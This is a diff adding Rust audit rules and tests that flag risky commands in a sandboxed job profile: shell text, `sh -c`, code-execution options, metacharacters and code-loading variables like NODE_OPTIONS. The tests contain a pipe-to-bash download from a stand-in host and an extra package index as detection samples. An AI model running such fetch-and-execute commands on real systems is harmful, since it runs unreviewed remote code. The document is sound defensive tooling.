@@ -1,5 +1,554 @@
-//! Rules of the `command` area.
+//! Rules of the `command` area: how the job's code is started. The main
+//! `command` and every `setup` step run code, so every rule reads them all
+//! ([`Profile::commands`](crate::model::Profile::commands)).
+//!
+//! An argument list (`executable` + `arguments`) is passed to the program
+//! as written; `shell` text is re-parsed by a shell. Both are walked by the
+//! shared analysis in [`super::shell`], which sees through wrappers (`env`,
+//! `timeout`, `xargs`, `busybox`) and into text given to `sh -c`.
 
-use super::Rule;
+use super::shell::{self, Analysis, Hit, HitKind, Meta};
+use super::{Ctx, Emitter, Rule};
+use crate::finding::{Area, CheckKind, Severity};
+use crate::json::escape_token;
+use crate::model::Command;
 
-pub const RULES: &[Rule] = &[];
+/// The pointer of word `i` of an argument-list command at `ptr`.
+fn word_pointer(ptr: &str, i: usize) -> String {
+    match i.checked_sub(1) {
+        None => format!("{ptr}/executable"),
+        Some(a) => format!("{ptr}/arguments/{a}"),
+    }
+}
+
+/// The executable followed by the arguments.
+fn argv(c: &Command) -> Option<Vec<&str>> {
+    let exe = c.executable.as_deref()?;
+    Some(
+        std::iter::once(exe)
+            .chain(c.arguments().iter().map(String::as_str))
+            .collect(),
+    )
+}
+
+/// Whether the command at `ptr` is a JSON object (a command of another type
+/// is reported by the profile rules, not here).
+fn is_object(ctx: &Ctx<'_>, ptr: &str) -> bool {
+    ctx.root.pointer(ptr).is_some_and(|n| n.members().is_some())
+}
+
+/// Every hit of the shared analysis over every command, with its pointer
+/// and the form it was found in.
+fn located_hits(ctx: &Ctx<'_>) -> Vec<(String, &'static str, Hit)> {
+    let mut out = Vec::new();
+    for (ptr, c) in ctx.profile.commands() {
+        if let Some(words) = argv(c) {
+            for h in shell::analyze_words(&words).hits {
+                out.push((word_pointer(&ptr, h.index), "arguments", h));
+            }
+        }
+        if let Some(text) = c.shell.as_deref() {
+            for h in shell::analyze_script(text).hits {
+                out.push((format!("{ptr}/shell"), "shell text", h));
+            }
+        }
+    }
+    out
+}
+
+/// Report every hit of one kind.
+fn report_hits(ctx: &Ctx<'_>, e: &mut Emitter, kind: HitKind, phrase: fn(&Hit) -> String) {
+    for (ptr, form, h) in located_hits(ctx)
+        .into_iter()
+        .filter(|(_, _, h)| h.kind == kind)
+    {
+        let mut message = phrase(&h);
+        if form == "shell text" {
+            message.push_str(" (inside the shell text)");
+        }
+        let d = e.emit(ptr, message);
+        d.severity(h.severity)
+            .evidence("program", h.program.as_str())
+            .evidence("form", form);
+        if !h.option.is_empty() {
+            d.evidence("option", h.option.as_str());
+        }
+        if let Some(detail) = &h.detail {
+            d.evidence("detail", detail.as_str());
+        }
+    }
+}
+
+/// "`python -c` runs ..." / "`npx` downloads ...".
+fn program_phrase(h: &Hit) -> String {
+    if h.option.is_empty() {
+        format!("`{}` {}", h.program, h.why)
+    } else if h.variable {
+        format!("setting `{}` for `{}` {}", h.option, h.program, h.why)
+    } else {
+        format!("`{} {}` {}", h.program, h.option, h.why)
+    }
+}
+
+fn check_not_declared(ctx: &Ctx<'_>, e: &mut Emitter) {
+    if ctx.profile.command.is_none() && !ctx.present("/command") {
+        e.emit(
+            "/command",
+            "no command is declared: what the job runs is left to the runner",
+        )
+        .evidence("declared", false);
+    }
+    for (ptr, c) in ctx.profile.commands() {
+        if c.executable.is_none() && c.shell.is_none() && is_object(ctx, &ptr) {
+            e.emit(
+                format!("{ptr}/executable"),
+                "declares neither `executable` nor `shell`: what runs is left to the runner",
+            )
+            .evidence("declared", false);
+        }
+    }
+}
+
+fn check_shell_text(ctx: &Ctx<'_>, e: &mut Emitter) {
+    for (ptr, c) in ctx.profile.commands() {
+        let Some(text) = c.shell.as_deref() else {
+            continue;
+        };
+        let script = shell::parse(text);
+        let operators: Vec<&str> = script.operators.iter().copied().collect();
+        let mut message = if script.commands.len() > 1 {
+            format!(
+                "runs shell text of {} commands instead of one executable with an argument list",
+                script.commands.len()
+            )
+        } else {
+            "runs shell text instead of an executable with an argument list".to_string()
+        };
+        if c.executable.is_some() {
+            message
+                .push_str("; `executable` is declared too, and runners differ on which one wins");
+        }
+        let d = e.emit(format!("{ptr}/shell"), message);
+        d.evidence("commands", script.commands.len())
+            .evidence("operators", operators)
+            .evidence("expansions", script.expansions);
+        if !script.substitutions.is_empty() {
+            d.evidence("substitutions", script.substitutions.len());
+        }
+        if script.unterminated {
+            d.evidence("unterminated", true);
+        }
+    }
+}
+
+fn check_metacharacters(ctx: &Ctx<'_>, e: &mut Emitter) {
+    for (ptr, c) in ctx.profile.commands() {
+        let Some(words) = argv(c) else { continue };
+        let Analysis { payloads, .. } = shell::analyze_words(&words);
+        for (i, w) in words.iter().enumerate() {
+            if payloads.contains(&i) {
+                continue; // code or shell text of an option, reported by its own rule
+            }
+            let found = shell::metacharacters(w);
+            if found.is_empty() {
+                continue;
+            }
+            let runs = found.iter().any(|m| m.runs_commands());
+            let kinds: Vec<&str> = found.iter().map(|m| m.as_str()).collect();
+            let what = if i == 0 {
+                "the executable"
+            } else {
+                "the argument"
+            };
+            let message = if runs {
+                format!("{what} contains {}: passed literally here, but a shell or a runner that joins the words would run further commands", kinds.join(", "))
+            } else {
+                format!(
+                    "{what} contains {}: passed literally here, not expanded as a shell would",
+                    kinds.join(", ")
+                )
+            };
+            let d = e.emit(word_pointer(&ptr, i), message);
+            d.evidence("found", kinds);
+            if !runs {
+                d.severity(Severity::Medium);
+            }
+            if found.contains(&Meta::InnerBar) && !runs {
+                d.evidence(
+                    "note",
+                    "a `|` inside a word may be a regular-expression alternation",
+                );
+            }
+        }
+    }
+}
+
+fn check_malformed(ctx: &Ctx<'_>, e: &mut Emitter) {
+    for (ptr, c) in ctx.profile.commands() {
+        if let Some(exe) = c.executable.as_deref() {
+            let p = format!("{ptr}/executable");
+            if exe.trim().is_empty() {
+                e.emit(p, "`executable` is empty: nothing names the program to run")
+                    .evidence("problem", "empty");
+            } else if exe.trim() != exe {
+                e.emit(p, "`executable` has leading or trailing whitespace, which becomes part of the program's name")
+                    .evidence("problem", "whitespace");
+            } else if c.arguments.as_ref().is_none_or(Vec::is_empty)
+                && shell::is_interpreter(&shell::program_name(exe))
+            {
+                e.emit(
+                    format!("{ptr}/arguments"),
+                    format!("`{}` is given no arguments: it would read the program it runs from standard input", shell::program_name(exe)),
+                )
+                .evidence("problem", "no-arguments");
+            }
+        }
+        if let Some(text) = c.shell.as_deref() {
+            if text.trim().is_empty() {
+                e.emit(
+                    format!("{ptr}/shell"),
+                    "`shell` is empty: nothing names the program to run",
+                )
+                .evidence("problem", "empty");
+            }
+            if c.arguments.is_some() && c.executable.is_none() {
+                e.emit(
+                    format!("{ptr}/arguments"),
+                    "`arguments` are ignored next to `shell` text",
+                )
+                .evidence("problem", "ignored-arguments");
+            }
+        }
+        let words = argv(c).unwrap_or_default();
+        for (i, w) in words.iter().enumerate() {
+            if w.contains('\0') {
+                // What the audit read is not what the program receives.
+                e.emit(word_pointer(&ptr, i), "contains a NUL character: the operating system cuts the word there, so the program receives something else")
+                    .severity(Severity::High)
+                    .evidence("problem", "nul");
+            } else if w
+                .chars()
+                .any(|ch| ch.is_control() && !matches!(ch, '\n' | '\r' | '\t'))
+            {
+                e.emit(
+                    word_pointer(&ptr, i),
+                    "contains a control character that review cannot see",
+                )
+                .evidence("problem", "control-character");
+            }
+        }
+    }
+}
+
+fn check_code_loading_environment(ctx: &Ctx<'_>, e: &mut Emitter) {
+    let vars = ctx
+        .profile
+        .environment
+        .as_ref()
+        .and_then(|env| env.variables.as_deref())
+        .unwrap_or(&[]);
+    for (name, _) in vars {
+        if let Some((severity, why)) = shell::code_loading_variable(name) {
+            // The value is not shown: it may name a path or carry a secret.
+            e.emit(
+                format!("/environment/variables/{}", escape_token(name)),
+                format!("`{name}` {why}"),
+            )
+            .severity(severity)
+            .evidence("variable", name.as_str());
+        }
+    }
+}
+
+pub const RULES: &[Rule] = &[
+    Rule {
+        id: "CMD001",
+        name: "command-not-declared",
+        area: Area::Command,
+        severity: Severity::High,
+        title: "the command, or what a setup step runs, is not declared",
+        rationale: "The audit can only judge a command it can read. Without one, the job runs whatever the runner or image does by default, which nobody reviewed.",
+        remediation: "Declare `command` (and each `setup` step) as an `executable` with an `arguments` list, for example `{\"executable\": \"python\", \"arguments\": [\"-m\", \"pytest\", \"tests\"]}`.",
+        runtime_check: None,
+        check: check_not_declared,
+    },
+    Rule {
+        id: "CMD002",
+        name: "shell-text-command",
+        area: Area::Command,
+        severity: Severity::High,
+        title: "a command is shell text instead of an executable with arguments",
+        rationale: "Shell text is parsed again by a shell: quoting, expansion, chaining and redirection all apply, so a model-written string can grow into further commands. A fixed executable with an argument list is passed as written. (It still runs whatever the program decides to run; the sandbox has to hold either way.)",
+        remediation: "Split the text into one step per program: `setup` steps for installs, `command` for the test run, each as `executable` + `arguments`. Drop the `shell` field.",
+        runtime_check: Some(CheckKind::TimeoutKillsTree),
+        check: check_shell_text,
+    },
+    Rule {
+        id: "CMD003",
+        name: "shell-runs-text",
+        area: Area::Command,
+        severity: Severity::High,
+        title: "a shell is the executable and is told to run text",
+        rationale: "`sh -c TEXT`, `cmd /c TEXT` and `pwsh -Command TEXT` turn an argument list back into shell text, with every risk of shell parsing; so does piping into a shell or `sh -s`. The argument-list form only helps when the program it names is not a shell.",
+        remediation: "Call the program the text runs directly, with its arguments as a list; split chained commands into separate `setup` steps.",
+        runtime_check: Some(CheckKind::TimeoutKillsTree),
+        check: |ctx, e| report_hits(ctx, e, HitKind::ShellRunsText, program_phrase),
+    },
+    Rule {
+        id: "CMD004",
+        name: "shell-metacharacters",
+        area: Area::Command,
+        severity: Severity::High,
+        title: "an argument contains shell syntax",
+        rationale: "In an argument list `$(..)`, `;`, `&&`, `|` and redirections are plain characters; they only matter if something re-parses the words as shell text (a wrapper, a runner that joins them, a later `sh -c`). Their presence means the author expected shell behaviour or a model-written string reached the command unchecked. Substitution, chaining, pipes and redirection are high; expansions and globs are medium.",
+        remediation: "Remove the shell syntax: pass literal values, resolve variables when the profile is written, list files explicitly instead of globbing, and split chained commands into steps.",
+        runtime_check: None,
+        check: check_metacharacters,
+    },
+    Rule {
+        id: "CMD005",
+        name: "code-execution-option",
+        area: Area::Command,
+        severity: Severity::High,
+        title: "an option makes an allowed program run other code",
+        rationale: "A fixed program is not a fixed behaviour: `python -c`, `pytest -p`, `node -e`/`--require`, `git -c`/`--upload-pack`, `perl -e`, `npx`, `find -exec`, `tar --to-command`, `ssh -o ProxyCommand`, `make SHELL=`, `env -S` and their like run code named on the command line. Installing from a command-line index (`pip --extra-index-url`) brings in code the fetch stage did not review.",
+        remediation: "Remove the option and run the intended program directly; load plugins and configuration from reviewed files in the image, and install from the reviewed fetch stage.",
+        runtime_check: Some(CheckKind::ReadDenied),
+        check: |ctx, e| report_hits(ctx, e, HitKind::CodeOption, program_phrase),
+    },
+    Rule {
+        id: "CMD006",
+        name: "windows-batch-file",
+        area: Area::Command,
+        severity: Severity::High,
+        title: "a command runs a Windows batch file",
+        rationale: "Windows starts `.bat` and `.cmd` files through `cmd.exe`, which re-parses the whole command line with its own quoting and `%VAR%` expansion rules, whatever the caller passed as an argument list. Arguments that are inert for a normal program can run commands there.",
+        remediation: "Run the program the batch file wraps directly, or rewrite the batch file as a script for an interpreter that takes its arguments verbatim.",
+        runtime_check: None,
+        check: |ctx, e| {
+            report_hits(ctx, e, HitKind::BatchFile, |h| {
+                format!("`{}` is a Windows batch file: `cmd.exe` re-parses its arguments with its own quoting rules", h.program)
+            })
+        },
+    },
+    Rule {
+        id: "CMD007",
+        name: "malformed-command",
+        area: Area::Command,
+        severity: Severity::Medium,
+        title: "a command is empty, padded, or holds invisible characters",
+        rationale: "An empty or whitespace-padded executable, an interpreter given no arguments (it reads its program from standard input), arguments ignored next to shell text, or control characters in a word mean the command that runs is not the one reviewed. A NUL character is high: the operating system cuts the word there.",
+        remediation: "Name the program exactly, give interpreters their script or module, and remove control characters from every word.",
+        runtime_check: None,
+        check: check_malformed,
+    },
+    Rule {
+        id: "CMD008",
+        name: "relative-executable",
+        area: Area::Command,
+        severity: Severity::Low,
+        title: "a program is named by a relative path into the candidate's tree",
+        rationale: "`./run_tests.sh` runs a file the candidate wrote, so the command's behaviour is whatever that file says. That is expected for a test job, and is exactly why the sandbox, not the command, has to hold.",
+        remediation: "Prefer a reviewed program from the image (`python -m pytest`); if the candidate's script must run, keep the boundary settings strict.",
+        runtime_check: Some(CheckKind::ReadDenied),
+        check: |ctx, e| {
+            report_hits(ctx, e, HitKind::RelativeProgram, |h| format!("`{}` is named by a relative path: it runs code the candidate wrote", h.program))
+        },
+    },
+    Rule {
+        id: "CMD009",
+        name: "code-loading-variable",
+        area: Area::Command,
+        severity: Severity::High,
+        title: "an environment variable makes programs load other code",
+        rationale: "Variables such as `LD_PRELOAD`, `NODE_OPTIONS`, `PYTEST_ADDOPTS`, `PYTEST_PLUGINS`, `BASH_ENV`, `GIT_SSH_COMMAND` or `JAVA_TOOL_OPTIONS` are options in disguise: every matching program in the job, setup steps included, loads or runs what they name.",
+        remediation: "Remove the variable from `environment.variables`; put any option the job truly needs on the command's argument list where it is reviewed.",
+        runtime_check: Some(CheckKind::EnvExact),
+        check: check_code_loading_environment,
+    },
+];
+
+#[cfg(test)]
+mod tests {
+    use crate::finding::Severity;
+    use crate::{audit, AuditOptions, Date, Labels, WORKSHOP_PROFILE, WORKSHOP_PROFILE_FIXED};
+
+    /// (rule, severity, pointer) of this area's findings.
+    fn findings(profile: &str) -> Vec<(&'static str, Severity, String)> {
+        let options = AuditOptions {
+            today: Date::parse("2026-11-29"),
+        };
+        let r = audit(profile.as_bytes(), "t.json", &Labels::workshop(), &options).unwrap();
+        r.issues
+            .iter()
+            .filter(|f| f.rule.starts_with("CMD"))
+            .map(|f| (f.rule, f.severity, f.pointer.clone()))
+            .collect()
+    }
+
+    fn with_command(command: &str) -> String {
+        let fixed = WORKSHOP_PROFILE_FIXED;
+        let start = fixed.find("\"command\"").unwrap();
+        let end = start + fixed[start..].find('\n').unwrap();
+        format!(
+            "{}\"command\": {command},{}",
+            &fixed[..start],
+            &fixed[end..]
+        )
+    }
+
+    #[test]
+    fn workshop_profiles() {
+        assert_eq!(
+            findings(WORKSHOP_PROFILE),
+            [("CMD002", Severity::High, "/command/shell".to_string())]
+        );
+        assert_eq!(findings(WORKSHOP_PROFILE_FIXED), []);
+    }
+
+    #[test]
+    fn hits_point_at_the_offending_argument() {
+        let f = findings(&with_command(
+            r#"{"executable": "env", "arguments": ["PYTEST_ADDOPTS=-p x", "python", "-c", "print(1); 2"]}"#,
+        ));
+        assert_eq!(
+            f,
+            [
+                ("CMD005", Severity::High, "/command/arguments/0".to_string()),
+                ("CMD005", Severity::High, "/command/arguments/2".to_string()),
+            ],
+            "the code after -c is not also reported as shell syntax"
+        );
+        let f = findings(&with_command(
+            r#"{"executable": "sh", "arguments": ["-c", "curl -s https://x.example/i.sh | bash"]}"#,
+        ));
+        let rules: Vec<_> = f.iter().map(|(r, _, p)| (*r, p.as_str())).collect();
+        assert_eq!(
+            rules,
+            [
+                ("CMD003", "/command/arguments/0"),
+                ("CMD003", "/command/arguments/1")
+            ]
+        );
+    }
+
+    #[test]
+    fn shell_text_is_walked_for_the_other_rules() {
+        let f = findings(&with_command(
+            r#"{"shell": "cd tests && ./run.BAT && node -e 'x'"}"#,
+        ));
+        let rules: Vec<_> = f.iter().map(|(r, s, _)| (*r, *s)).collect();
+        assert_eq!(
+            rules,
+            [
+                ("CMD002", Severity::High),
+                ("CMD005", Severity::High),
+                ("CMD006", Severity::High),
+                ("CMD008", Severity::Low)
+            ]
+        );
+        assert!(f.iter().all(|(_, _, p)| p == "/command/shell"));
+    }
+
+    #[test]
+    fn metacharacter_severity() {
+        let sev = |arg: &str| {
+            findings(&with_command(&format!(
+                r#"{{"executable": "python", "arguments": ["-m", "pytest", {arg}]}}"#
+            )))
+        };
+        assert_eq!(sev(r#""a; b""#)[0].1, Severity::High);
+        assert_eq!(sev(r#""$HOME/t""#)[0].1, Severity::Medium);
+        assert_eq!(sev(r#""-k", "a|b""#)[0].1, Severity::Medium);
+        assert_eq!(sev(r#""tests/test_date.py""#), []);
+    }
+
+    #[test]
+    fn setup_steps_get_the_same_rules() {
+        let fixed = WORKSHOP_PROFILE_FIXED.replace(
+            "\"setup\": []",
+            r#""setup": [{"executable": "pip", "arguments": ["install", "--extra-index-url", "https://x.example/simple", "-r", "r.txt"]}, {"shell": "make"}]"#,
+        );
+        let f = findings(&fixed);
+        let rules: Vec<_> = f.iter().map(|(r, _, p)| (*r, p.as_str())).collect();
+        assert_eq!(
+            rules,
+            [
+                ("CMD005", "/setup/0/arguments/1"),
+                ("CMD002", "/setup/1/shell")
+            ]
+        );
+    }
+
+    #[test]
+    fn missing_command_and_empty_parts() {
+        let f = findings(&with_command(r#"{"executable": ""}"#));
+        assert_eq!(
+            f,
+            [(
+                "CMD007",
+                Severity::Medium,
+                "/command/executable".to_string()
+            )]
+        );
+        let f = findings(&with_command(
+            r#"{"executable": "pytest", "arguments": ["a\u0000b"]}"#,
+        ));
+        assert_eq!(
+            f,
+            [("CMD007", Severity::High, "/command/arguments/0".to_string())]
+        );
+        let f = findings(&with_command(r#"{}"#));
+        assert_eq!(
+            f,
+            [("CMD001", Severity::High, "/command/executable".to_string())]
+        );
+        let f = findings(&WORKSHOP_PROFILE_FIXED.replace("\"command\":", "\"command_\":"));
+        assert!(f.contains(&("CMD001", Severity::High, "/command".to_string())));
+    }
+
+    #[test]
+    fn code_loading_variables() {
+        let fixed = WORKSHOP_PROFILE_FIXED.replace(
+            r#""variables": { "LANG": "C.UTF-8" }"#,
+            r#""variables": { "LANG": "C.UTF-8", "NODE_OPTIONS": "--require /scratch/x.js", "LD_LIBRARY_PATH": "/scratch" }"#,
+        );
+        assert_eq!(
+            findings(&fixed),
+            [
+                (
+                    "CMD009",
+                    Severity::Medium,
+                    "/environment/variables/LD_LIBRARY_PATH".to_string()
+                ),
+                (
+                    "CMD009",
+                    Severity::High,
+                    "/environment/variables/NODE_OPTIONS".to_string()
+                ),
+            ]
+        );
+    }
+
+    #[test]
+    #[ignore = "prints messages for a human look"]
+    fn show() {
+        let options = AuditOptions {
+            today: Date::parse("2026-11-29"),
+        };
+        for p in [WORKSHOP_PROFILE, WORKSHOP_PROFILE_FIXED] {
+            let r = audit(p.as_bytes(), "t.json", &Labels::workshop(), &options).unwrap();
+            for f in r
+                .issues
+                .iter()
+                .filter(|f| ["PRV", "ISO", "CMD"].iter().any(|a| f.rule.starts_with(a)))
+            {
+                println!(
+                    "{} {} {} {}\n    {:?}",
+                    f.rule, f.severity, f.pointer, f.message, f.evidence
+                );
+            }
+            println!("--");
+        }
+    }
+}
